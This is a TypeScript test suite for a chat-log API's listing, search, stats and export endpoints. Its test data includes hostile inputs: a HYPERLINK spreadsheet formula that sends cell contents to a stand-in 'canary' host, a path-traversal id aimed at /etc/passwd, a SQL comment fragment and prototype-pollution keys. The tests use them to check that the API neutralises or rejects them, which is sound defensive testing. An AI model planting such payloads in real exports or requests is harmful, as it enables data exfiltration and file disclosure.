import { parse } from 'csv-parse/sync';
import { writeFile } from 'node:fs/promises';
import { request } from 'node:http';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { LogRow } from '../../src/logging/log-row.js';
import { RECORD_COLUMNS } from '../../src/logging/log-record.js';
import { LogStore } from '../../src/logging/log-store.js';
import { formatRow, HEADER_LINE } from '../../src/logging/csv/csv-format.js';
import { watchEventLoop } from '../support/main-thread-cpu.js';
import { sampleRow } from '../support/log-rows.js';
import { LOG_STORES } from '../support/log-stores.js';
import { query } from '../support/postgres-server.js';
import { exchange } from '../support/plain-http.js';
import { TestApp } from '../support/test-app.js';

type Json = Record<string, unknown>;

const json = async (reply: Response) => (await reply.json()) as Json;

interface Page {
  data: Json[];
  next_cursor: string | null;
}

const FORMULA = '=HYPERLINK("http://canary/?"&A1)';
const HOSTILE = [
  '"quoted",\r\n"x"',
  FORMULA,
  '; =1+1\n- item',
  '🌧️ 漢字 \u0000 \u2028',
  '__proto__',
  '100%_\\',
];

function rowOf(number: number, values: Partial<LogRow> = {}): LogRow {
  return sampleRow({
    timestamp: new Date(Date.UTC(2026, 0, 1) + number * 1000).toISOString(),
    model: number % 2 === 0 ? 'llama' : 'mistral',
    prompt: `prompt ${number}`,
    response: `response ${number}`,
    latency: number / 10,
    response_tokens: 10,
    ttft: 0.25,
    cost: 0.001,
    upstream_model: 'a/b',
    id: `id-${String(number).padStart(6, '0')}`,
    ...values,
  });
}

describe.each(LOG_STORES)('GET /logs of a log in $name', ({ name, start, kept }) => {
  let app: TestApp;
  let removeStore = () => Promise.resolve();
  let databaseUrl = '';

  beforeAll(async () => {
    const { env, remove } = await start();
    removeStore = remove;
    databaseUrl = env.DATABASE_URL ?? '';
    app = await TestApp.start({ env });
    await append(
      HOSTILE.map((prompt, index) => rowOf(index, { prompt, messages: `[{"content":"${index}"}]` })),
    );
    await append(Array.from({ length: 94 }, (_, index) => rowOf(index + 6)));
  });

  afterAll(async () => {
    await app.stop();
    await removeStore();
  });

  const append = (rows: LogRow[]) => Promise.all(rows.map((row) => app.app.get(LogStore).append(row)));
  const page = async (query: string) => (await json(await app.get(`/logs?${query}`))) as unknown as Page;
  const idsOf = ({ data }: Page) => data.map(({ id }) => id);

  it('answers rows newest first, with the names of the file and real types', async () => {
    const { data, next_cursor } = await page('limit=1&status=ok');
    const unknown = { error: null, messages: null, key: null, user: null };
    const later = { max_tokens: null, cost_source: 'reported', score: null, comment: null, erased_at: null };
    expect(data).toEqual([{ ...rowOf(99), ...unknown, ...later }]);
    expect(Object.keys(data[0]!)).toEqual([...RECORD_COLUMNS]);
    expect(typeof next_cursor).toBe('string');
    expect((await page('')).data).toHaveLength(50);
  });

  it('pages through all rows, none lost or twice while others are added', async () => {
    const seen: unknown[] = [];
    for (let query = 'limit=7&to=2026-01-02'; ;) {
      const { data, next_cursor } = await page(query);
      seen.push(...data.map(({ id }) => id));
      await append([rowOf(100_000 + seen.length)]);
      if (next_cursor === null) break;
      query = `limit=7&to=2026-01-02&cursor=${next_cursor}`;
    }
    expect(seen).toEqual(Array.from({ length: 100 }, (_, index) => rowOf(99 - index).id));
  });

  it('A26: finds hostile texts literally', async () => {
    for (const [index, text] of HOSTILE.entries()) {
      const found = await page(`q=${encodeURIComponent(text)}`);
      if (text.includes('\u0000')) expect(found).toMatchObject({ status: 400, errors: [{ path: 'q' }] });
      else expect(found.data).toMatchObject([{ prompt: text, messages: [{ content: `${index}` }] }]);
    }
    expect(idsOf(await page('q=%25%25%25%25'))).toEqual([]);
    expect(idsOf(await page('q=PROMPT%2042&min_latency=4&max_latency=5&model=llama'))).toEqual(['id-000042']);
  });

  it.each([
    ['limit=1e9', 'limit'],
    ['limit=0', 'limit'],
    ['limit=501', 'limit'],
    ['limit=', 'limit'],
    ['limit=5&limit=6', 'limit'],
    ['limit[]=5', 'limit[]'],
    ['offset=1000000000', 'offset'],
    ['sort=prompt', 'sort'],
    ['from=2026-02-02&to=2026-01-01', 'to'],
    ['from=1e15', 'from'],
    ['from=999999999999999', 'from'],
    ['from=+275760-09-13', 'from'],
    ['to=2026-02-30', 'to'],
    ['to=yesterday', 'to'],
    ['from=2026-01-01&from=2026-01-02', 'from'],
    ['status=fine', 'status'],
    ['model=', 'model'],
    ['model=a&model=b', 'model'],
    ['q=', 'q'],
    [`q=${'x'.repeat(201)}`, 'q'],
    ['min_latency=-1', 'min_latency'],
    ['min_latency=NaN', 'min_latency'],
    ['min_latency=2&max_latency=1', 'max_latency'],
    ['cursor=bm90IG91cnM', 'cursor'],
    ['cursor=', 'cursor'],
    ['__proto__[limit]=1', '__proto__[limit]'],
  ])('A26: refuses ?%s as a 400 that names it', async (query, path) => {
    for (const route of ['/logs', '/logs/stats', '/logs/export']) {
      if (route !== '/logs' && /^(limit|cursor)/.test(path)) continue;
      const reply = await app.get(`${route}?${query}`);
      expect(await json(reply)).toMatchObject({ status: 400, errors: [{ path }] });
      expect(reply.headers.get('content-type')).toContain('application/problem+json');
    }
  });

  it.each(['model', 'q', 'cursor'])('says that %s must be given once', async (name) => {
    const { detail } = await json(await app.get(`/logs?${name}=a&${name}=b`));
    expect(detail).toBe(`${name} must be given once, as text.`);
  });

  it('A26: takes no harm from names that every object has', async () => {
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then'])
      expect([200, 400]).toContain((await app.get(`/logs?limit=1&${name}=1&${name}[polluted]=1`)).status);
    expect(({} as Json).polluted).toBeUndefined();
    expect((await page('limit=1')).data).toHaveLength(1);
  });

  it('refuses a bucket and a format that do not exist, and too many buckets', async () => {
    expect(await json(await app.get('/logs/stats?bucket=second'))).toMatchObject({
      errors: [{ path: 'bucket' }],
    });
    expect(await json(await app.get('/logs/export?format=xlsx'))).toMatchObject({
      errors: [{ path: 'format' }],
    });
  });

  it('answers one row, or a 404', async () => {
    expect(await json(await app.get('/logs/id-000042'))).toMatchObject({ prompt: 'prompt 42', latency: 4.2 });
    for (const id of [
      'unknown',
      '__proto__',
      '~000000000000',
      '..%2f..%2fetc%2fpasswd',
      '%00',
      "'--",
      'x'.repeat(500),
    ]) {
      const reply = await app.get(`/logs/${id}`);
      expect([id, reply.status]).toEqual([id, 404]);
      expect(await json(reply)).toMatchObject({ status: 404, code: 'not_found' });
    }
  });

  it('answers figures per model, in all and over time, for the same filters', async () => {
    const stats = await json(await app.get('/logs/stats?to=2026-01-02&bucket=minute&min_latency=5'));
    expect(stats).toMatchObject({
      total: { count: 50, errors: 0, prompt_tokens: 200, ttft: { p50: 0.25 }, latency: { p50: 7.45 } },
      models: [
        { model: 'llama', count: 25 },
        { model: 'mistral', count: 25 },
      ],
      buckets: [
        { start: '2026-01-01T00:00:00.000Z', total: { count: 10 } },
        { start: '2026-01-01T00:01:00.000Z', total: { count: 40 } },
      ],
      unreadable_rows: 0,
    });
  });

  it('A22: exports csv that no spreadsheet calculates with, and the rest verbatim', async () => {
    const csv = await app.get('/logs/export?format=csv&to=2026-01-02');
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="chat_logs.spreadsheet.csv"');
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const rows = parse(await csv.text(), { columns: true }) as unknown as Record<string, string>[];
    expect(rows).toHaveLength(100);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^\s*[=+@-]/);
    expect(rows[1]?.prompt).toBe(`'${FORMULA}`);
    expect(rows[2]?.prompt).toBe("; '=1+1\n'- item");
    const lines = (await (await app.get('/logs/export?format=jsonl&to=2026-01-02')).text())
      .trimEnd()
      .split('\n');
    expect(lines.slice(0, 6).map((line) => (JSON.parse(line) as Json).prompt)).toEqual(HOSTILE.map(kept));
  });

  it('exports the bytes of its files as raw, if it has any', async () => {
    const reply = await app.get('/logs/export?format=raw');
    if (name === 'PostgreSQL') {
      expect(await json(reply)).toMatchObject({ status: 406 });
      return;
    }
    const raw = Buffer.from(await reply.arrayBuffer());
    expect((await app.rows()).length).toBeGreaterThan(100);
    expect(parse(raw, { columns: true })).toEqual(await app.rows());
  });

  it('exports Parquet as Parquet', async () => {
    const parquet = Buffer.from(await (await app.get('/logs/export?format=parquet')).arrayBuffer());
    expect(parquet.toString('latin1', 0, 4) + parquet.toString('latin1', parquet.length - 4)).toBe(
      'PAR1PAR1',
    );
  });

  it('L16: answers whole rows, and every acknowledged one, while rows are written', async () => {
    const response = 'x"\r\n,'.repeat(2000);
    const at = (number: number) => new Date(Date.UTC(2026, 5, 1) + number * 1000).toISOString();
    for (let round = 0; round < 15; round++) {
      const rows = Array.from({ length: 20 }, (_, index) =>
        rowOf(200_000 + round * 20 + index, { timestamp: at(round * 20 + index), response }),
      );
      const writing = append(rows);
      const during = await page('limit=100&from=2026-06-01');
      for (const row of during.data) expect([row.response, row.attempts]).toEqual([response, 1]);
      await writing;
      expect((await app.get(`/logs/${rows[19]!.id}`)).status).toBe(200);
    }
    const stats = await json(await app.get('/logs/stats?from=2026-06-01'));
    expect(stats).toMatchObject({ total: { count: 300 }, unreadable_rows: 0 });
  });

  describe('over a large log', () => {
    beforeAll(async () => {
      const text = 'lorem ipsum, dolor = sit; '.repeat(40);
      const minute = (index: number) =>
        sampleRow({
          timestamp: new Date(Date.UTC(2025, 0, 1) + index * 60_000).toISOString(),
          id: `large-${index}`,
          prompt: text,
        });
      if (name === 'PostgreSQL') {
        await append([minute(0), minute(59_999)]);
        await query(
          databaseUrl,
          `INSERT INTO chats SELECT (jsonb_populate_record(chats, jsonb_build_object(
              'id', 'large-' || n, 'timestamp', chats.timestamp + n * interval '1 minute'))).*
            FROM chats, generate_series(1, 59998) AS n WHERE id = 'large-0';
           INSERT INTO chat_texts SELECT chats.timestamp, chats.id, prompt, response, messages
            FROM chats, chat_texts WHERE chat_texts.id = 'large-0' AND chats.id LIKE 'large-%' ON CONFLICT DO NOTHING`,
        );
        return;
      }
      const lines = Array.from({ length: 60_000 }, (_, index) => formatRow(minute(index)));
      const path = join(app.folder, 'chat_logs.20250101T000000000Z.csv');
      await writeFile(path, Buffer.concat([Buffer.from(HEADER_LINE), ...lines]));
    }, 120_000);

    it('L17: leaves the event loop free: first question, stats, search, page and export', async () => {
      const stop = watchEventLoop();
      expect(await json(await app.get('/logs/stats?model=mistral&to=2026-01-01'))).toMatchObject({
        total: { count: 60_000 },
      });
      expect(idsOf(await page('q=nowhere&to=2026-01-01'))).toEqual([]);
      expect((await page('limit=500&to=2026-01-01')).data).toHaveLength(500);
      const csv = await app.get('/logs/export?format=csv&to=2025-01-10');
      expect((await csv.arrayBuffer()).byteLength).toBeGreaterThan(9_000_000);
      const held = stop().sort((a, b) => a - b);
      expect(held[Math.floor(held.length * 0.99)]).toBeLessThan(50);
    });

    it('A26: refuses more buckets than anybody can look at', async () => {
      const reply = await app.get('/logs/stats?bucket=minute&to=2026-01-01');
      expect(await json(reply)).toMatchObject({ status: 400, errors: [{ path: 'bucket' }] });
    });

    it('L17: stops when the client leaves, and goes on answering others', async () => {
      const raw = name === 'CSV' ? ['/logs/export?format=raw'] : [];
      for (const path of ['/logs/export?format=jsonl', ...raw, '/logs?limit=500']) {
        const left = await exchange(app.url + path, { leaveWhen: (text) => text.length > 1000 });
        expect(left.status).toBe(200);
      }
      await Promise.all(
        Array.from({ length: 8 }, (_, index) => leave(`${app.url}/logs/stats?q=absent${index}`)),
      );
      const start = performance.now();
      expect((await app.get('/logs?limit=1')).status).toBe(200);
      expect(performance.now() - start).toBeLessThan(2000);
      const rows = await (await app.get('/logs/export?format=jsonl&to=2025-01-02')).text();
      expect(rows.trimEnd().split('\n')).toHaveLength(1440);
    });
  });
});

/** Hangs up while the answer is being worked out. Not fetch: that keeps a connection in reserve for each it lost. */
async function leave(url: string): Promise<void> {
  const asked = request(url, { agent: false });
  asked.on('error', () => undefined).end();
  await sleep(30);
  asked.destroy();
}
